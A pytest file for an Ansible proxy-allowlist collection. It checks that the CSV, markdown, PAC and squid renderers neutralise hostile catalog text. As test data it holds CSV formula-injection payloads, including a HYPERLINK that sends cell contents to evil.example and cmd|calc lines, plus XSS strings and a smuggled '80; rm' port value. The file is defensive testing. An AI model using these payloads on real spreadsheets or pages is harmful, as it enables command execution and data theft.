# -*- coding: utf-8 -*-
# Copyright: contributors to purview.device_proxy
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""The renderers against hostile catalog text, each checked by an independent consumer: Python's
csv module (what a spreadsheet reads), markdown-it-py (a CommonMark/GFM parser), pypac's PAC engine
and a real ``squid -k parse``."""

from __future__ import annotations

import json
import os
import subprocess
from urllib.parse import urlsplit

import csv
import io

import pytest
from pypac.parser import PACFile

from ansible_collections.purview.device_proxy.plugins.plugin_utils.allowlist import (
    AllowlistError,
    host_regex,
    render_pac,
    render_squid,
)
from ansible_collections.purview.device_proxy.plugins.plugin_utils.catalog import (
    CatalogError,
    entries_as_dicts,
    load_catalog,
)
from ansible_collections.purview.device_proxy.plugins.plugin_utils.proxy_team_table import (
    COLUMNS,
    render_table,
)

SQUID = "/usr/sbin/squid"

# OWASP, "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection): a spreadsheet
# evaluates a cell that begins with '=', '+', '-', '@', tab (0x09) or carriage return (0x0D).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]


def hostile_entries(text):
    """Catalog-shaped dicts whose free text (function, list) carries ``text``: what a JSON
    catalog_file can hold."""
    base = entries_as_dicts(load_catalog().select("commercial", ["eu"]))[:3]
    for entry in base:
        entry["function"] = text
    return base


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised(text):
    parsed = list(csv.reader(io.StringIO(render_table(hostile_entries(text), output="csv"))))
    cells = [cell for row in parsed[1:] for cell in row]
    assert cells
    assert not [c for c in cells if c[:1] in FORMULA_STARTS or c.lstrip()[:1] in FORMULA_STARTS[:4]], cells
    # neutralised, not dropped: the text is still there behind the apostrophe OWASP recommends
    purposes = [row[COLUMNS.index("purpose")] for row in parsed[1:]]
    assert all(p.startswith("'") and text.strip() in p for p in purposes), purposes


def test_csv_round_trip_keeps_ordinary_cells_as_they_are():
    rows = entries_as_dicts(load_catalog().select("commercial", ["eu"]))
    parsed = list(csv.DictReader(io.StringIO(render_table(rows, output="csv"))))
    assert {r["host"] for r in parsed} >= {"crl.microsoft.com", "*.wd.microsoft.com"}
    assert not any(cell.startswith("'") for r in parsed for cell in r.values())


def markdown_cells(text):
    """The table as markdown-it-py (GFM tables) parses it: a list of rows of cell HTML."""
    markdown_it = pytest.importorskip("markdown_it")
    html = markdown_it.MarkdownIt("commonmark").enable("table").render(text)
    rows = []
    for chunk in html.split("<tr>")[1:]:
        body = chunk.split("</tr>")[0]
        cells = [c.split(">", 1)[1].rsplit("</t", 1)[0] for c in body.split("\n") if c.startswith(("<td", "<th"))]
        rows.append(cells)
    return html, rows


@pytest.mark.parametrize("text", [
    "a`b` | <script>alert(1)</script>",
    "line one\nline two | x",
    "pipe | pipe \\| back\\slash",
    "<img src=x onerror=alert(1)>",
    "*bold* _it_ [link](http://evil.example)",
])
def test_markdown_cells_are_escaped(text):
    selection = hostile_entries(text)
    html, rows = markdown_cells(render_table(selection, output="markdown"))
    assert "<script" not in html and "<img" not in html
    assert "<a " not in html and "<em>" not in html and "<strong>" not in html
    assert len(rows) == 1 + len(render_table(selection, output="rows"))
    assert all(len(row) == len(COLUMNS) for row in rows), rows
    purposes = [row[COLUMNS.index("purpose")] for row in rows[1:]]
    expected = " ".join(text.split("\n")).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert all(p == expected for p in purposes), (purposes, expected)


def test_markdown_code_spans_survive_backticks_and_pipes_in_a_path():
    path = "/a`b|c<d>"
    html, rows = markdown_cells(render_table(["http://crl.example.com%s" % path], output="markdown"))
    assert len(rows) == 2 and all(len(row) == len(COLUMNS) for row in rows), rows
    assert rows[1][COLUMNS.index("path")] == "<code>/a`b|c&lt;d&gt;</code>"
    assert rows[1][COLUMNS.index("host")] == "<code>crl.example.com</code>"


# --- JSON catalog files are checked like the reference CSV -----------------------------------

def write_catalog(tmp_path, change):
    document = load_catalog().to_document()
    entry = next(e for e in document["entries"] if e["host"] == "crl.microsoft.com")
    change(entry)
    path = tmp_path / "catalog.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    return str(path)


@pytest.mark.parametrize("change,rule", [
    (lambda e: e.update(host="=cmd|' /C calc'!A0"), "host"),
    (lambda e: e.update(url="=cmd|' /C calc'!A0", host="=cmd|' /C calc'!A0"), "host"),
    (lambda e: e.update(host="evil.example"), "host"),            # the host is not the URL's
    (lambda e: e.update(port=0), "port"),
    (lambda e: e.update(port="80; rm"), "port"),
    (lambda e: e.update(cloud="mars"), "cloud"),
    (lambda e: e.update(scheme="ftp"), "scheme"),
    (lambda e: e.update(path="/-x"), "path"),
    (lambda e: e.update(list_name="=1+1"), "category"),
    (lambda e: e.update(os=["windows", "=1+1"]), "os"),
    (lambda e: e.update(function=5), "function"),
    (lambda e: e.update(notes=["=1+1"]), "notes"),
    (lambda e: e.update(required="yes"), "required"),
    (lambda e: e.update(host="us5-v20.events.data.microsoft.com",
                        url="us5-v20.events.data.microsoft.com"), "excluded"),
])
def test_a_json_catalog_file_is_checked_like_the_reference_csv(tmp_path, change, rule):
    from ansible_collections.purview.device_proxy.plugins.plugin_utils.allowlist_selection import (
        load_selection_catalog,
    )
    path = write_catalog(tmp_path, change)
    with pytest.raises(CatalogError) as caught:
        load_selection_catalog(path)
    assert caught.value.rule == rule, str(caught.value)
    assert caught.value.row is not None, "the error names the entry"


def test_the_shipped_catalog_passes_the_json_check(tmp_path):
    from ansible_collections.purview.device_proxy.plugins.plugin_utils.allowlist_selection import (
        load_selection_catalog,
    )
    path = tmp_path / "catalog.json"
    path.write_text(load_catalog().to_json_text(), encoding="utf-8")
    assert load_selection_catalog(str(path)).entries == load_catalog().entries


# --- PAC: a wildcard host with a path is matched on the host, then the path -------------------

def find_proxy(pac, url):
    return PACFile(pac).find_proxy_for_url(url, urlsplit(url).hostname)


def test_pac_path_rule_for_a_wildcard_host_matches_the_host_separately():
    pac = render_pac(["http://*.x.example.com/pki/*", "http://www.example.org/pkiops/*"], proxy="10.0.0.6:8080")
    via = "PROXY 10.0.0.6:8080"
    assert find_proxy(pac, "http://a.x.example.com/pki/1") == via
    assert find_proxy(pac, "http://a.b.x.example.com:80/pki/crl/1.crl") == via
    assert find_proxy(pac, "http://www.example.org/pkiops/x.crl") == via
    for url in ("http://evil.example/a.x.example.com/pki/1",
                "http://evil.example/?u=http://a.x.example.com/pki/1",
                "http://a.x.example.com/other/pki/1",
                "http://x.example.com/pki/1",                       # subdomains only
                "http://evil.example/www.example.org/pkiops/x.crl",
                "http://www.example.org/other?/pkiops/x"):
        assert find_proxy(pac, url) == "DIRECT", url


# --- Squid: no value starts with '-' ----------------------------------------------------------

def acl_values(snippet):
    values = []
    for line in snippet.splitlines():
        if line.startswith("acl "):
            words = line.split()[3:]
            while words and words[0] in ("-i", "+i", "--"):
                words = words[1:]
            values += words
    return values


def test_squid_values_never_start_with_a_dash():
    snippet = render_squid(["*-x.example.com", "*-y.example.org", "https://a.example.net/"])
    values = acl_values(snippet)
    assert values and not [v for v in values if v.startswith("-")], values


def test_the_dash_safe_regex_still_means_the_glob():
    import re
    regex = host_regex("*-x.example.com")
    assert not regex.startswith("-")
    assert re.search(regex, "a-x.example.com") and re.search(regex, "-x.example.com")
    assert not re.search(regex, "ax.example.com") and not re.search(regex, "a-x.example.com.evil")


@pytest.mark.skipif(not os.path.exists(SQUID), reason="squid is missing (scripts/bootstrap.sh installs squid-openssl)")
def test_squid_parses_the_dash_patterns_without_complaint(tmp_path):
    conf = tmp_path / "squid.conf"
    conf.write_text("\n".join([
        "http_port 127.0.0.1:3199", "pid_filename none", "cache_log stdio:%s" % (tmp_path / "cache.log"),
        "access_log none", render_squid(["*-x.example.com", "https://*-y.example.org/"]), "http_access deny all", "",
    ]), encoding="utf-8")
    result = subprocess.run([SQUID, "-k", "parse", "-f", str(conf)], capture_output=True, text=True, timeout=60,
                            check=False)
    output = result.stdout + result.stderr
    assert result.returncode == 0, output
    assert not [line for line in output.splitlines() if any(w in line for w in ("WARNING", "ERROR", "FATAL", "Bungled"))]


def test_a_dstdomain_value_starting_with_a_dash_is_refused():
    # Hosts are validated before; a label may still start with '-' in the middle of a name,
    # never at the start of a value. This pins the last guard.
    with pytest.raises(AllowlistError):
        render_squid([{"host": "-x.example.com", "port": 443, "scheme": "https"}])
